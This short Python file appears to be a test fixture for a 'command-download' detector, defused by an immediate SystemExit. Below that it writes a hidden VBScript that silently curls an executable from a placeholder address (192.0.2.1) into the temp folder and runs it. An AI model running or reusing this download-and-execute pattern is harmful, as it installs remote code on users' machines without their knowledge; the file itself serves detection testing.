raise SystemExit('a fixture')
# held by command-download
import os, subprocess, tempfile
v = os.path.join(tempfile.gettempdir(), "u.vbs")
with open(v, "w") as f:
    f.write('CreateObject("WScript.Shell").Run "cmd /c curl -o %TEMP%\\a.exe http://192.0.2.1/a.exe && %TEMP%\\a.exe", 0')
os.startfile(v)
